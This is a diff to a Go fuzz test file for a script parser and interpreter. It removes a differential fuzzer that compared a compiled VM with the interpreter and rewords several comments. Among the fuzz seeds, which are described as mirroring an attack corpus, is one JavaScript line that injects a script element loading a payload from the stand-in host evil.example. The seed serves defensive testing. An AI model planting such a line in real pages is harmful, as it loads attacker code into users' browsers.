@@ -1,15 +1,11 @@
 package script
 
-import (
-	"strings"
-	"testing"
-)
+import "testing"
 
 // fuzzSeeds covers the grammar; the attack-corpus bodies below mirror
-// internal/attack's §6.4 scripts, so the fuzzers start from the exact
+// internal/attack's §6.4 scripts, so the fuzzer starts from the exact
 // shapes the monitor mediates in production (document, Image, and
-// XMLHttpRequest resolve to "undefined variable" errors under StdEnv,
-// which both engines must report identically).
+// XMLHttpRequest resolve to "undefined variable" errors under StdEnv).
 var fuzzSeeds = []string{
 	`var x = 1; x + 2;`,
 	`function f(a) { return a * 2; } f(21);`,
@@ -30,8 +26,9 @@ var fuzzSeeds = []string{
 	`var el = document.createElement("script"); el.src = "http://evil.example/payload.js"; document.body.appendChild(el);`,
 }
 
-// FuzzParse checks the parser never panics and the interpreter always
-// terminates within its step budget on whatever parses.
+// FuzzParse checks the parser never panics and, on whatever parses,
+// the interpreter finishes or stops at its step budget without
+// panicking.
 func FuzzParse(f *testing.F) {
 	for _, s := range fuzzSeeds {
 		f.Add(s)
@@ -43,48 +40,5 @@ func FuzzParse(f *testing.F) {
 		}
 		ip := &Interp{MaxSteps: 20000}
 		_, _ = ip.Run(prog, StdEnv(&Console{})) // termination is the invariant
-	})
-}
-
-// FuzzCompileMatchesEval is the differential engine fuzzer: on every
-// input that parses, the compiled VM and the tree-walking interpreter
-// must produce identical results, identical error strings, identical
-// console output, and identical step counts. The interpreter is the
-// spec; any divergence is a compiler or VM bug. Both engines run the
-// same folded program so constant folding cannot shift tick sites
-// between them.
-func FuzzCompileMatchesEval(f *testing.F) {
-	for _, s := range fuzzSeeds {
-		f.Add(s)
-	}
-	f.Fuzz(func(t *testing.T, s string) {
-		prog, err := Parse(s)
-		if err != nil {
-			return
-		}
-		folded := Fold(prog)
-
-		ic, vc := &Console{}, &Console{}
-		ip := &Interp{MaxSteps: 20000}
-		iv, ierr := ip.Run(folded, StdEnv(ic))
-		vm := &VM{MaxSteps: 20000}
-		vv, verr := vm.Run(Compile(folded), StdEnv(vc))
-
-		if (ierr == nil) != (verr == nil) {
-			t.Fatalf("error disagreement:\n  interp: %v\n  vm:     %v", ierr, verr)
-		}
-		if ierr != nil && ierr.Error() != verr.Error() {
-			t.Fatalf("error text diverges:\n  interp: %v\n  vm:     %v", ierr, verr)
-		}
-		if ierr == nil && (ToString(iv) != ToString(vv) || TypeOf(iv) != TypeOf(vv)) {
-			t.Fatalf("results diverge: interp %s (%s), vm %s (%s)",
-				ToString(iv), TypeOf(iv), ToString(vv), TypeOf(vv))
-		}
-		if il, vl := ic.Lines(), vc.Lines(); strings.Join(il, "\n") != strings.Join(vl, "\n") {
-			t.Fatalf("console diverges:\n  interp: %q\n  vm:     %q", il, vl)
-		}
-		if ip.Steps() != vm.Steps() {
-			t.Fatalf("step counts diverge: interp %d, vm %d", ip.Steps(), vm.Steps())
-		}
 	})
 }
